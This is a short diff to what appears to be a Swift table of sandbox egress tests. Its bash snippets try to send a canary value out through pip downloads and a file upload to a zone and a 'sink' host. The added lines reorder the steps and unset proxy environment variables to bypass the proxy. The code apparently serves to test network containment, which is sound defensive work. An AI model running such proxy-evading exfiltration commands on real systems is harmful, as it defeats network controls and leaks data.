@@ -100,9 +100,11 @@ extension AttackTable {
           .bash(
             #"""
             pip() { try python3 -m pip --isolated --disable-pip-version-check --retries 0 --timeout 3 "$@"; }
-            pip download -q --no-deps --proxy "$PROXY" --trusted-host "$ZONE" -i "https://$ZONE/simple/" -d /tmp "$CANARY"
-            pip download -q --no-deps --proxy '' --trusted-host "$SINK" -i "http://$SINK/simple/" -d /tmp "$CANARY"
             proxied -F ":action=file_upload" -F "content=$CANARY" "https://upload.$ZONE/legacy/"
+            pip download -q --no-deps --proxy "$PROXY" --trusted-host "$ZONE" -i "https://$ZONE/simple/" -d /tmp "$CANARY"
+            # Without these variables it goes straight to the address.
+            unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY
+            pip download -q --no-deps --proxy '' --trusted-host "$SINK" -i "http://$SINK/simple/" -d /tmp "$CANARY"
             """#))
       ]),
     Attack(
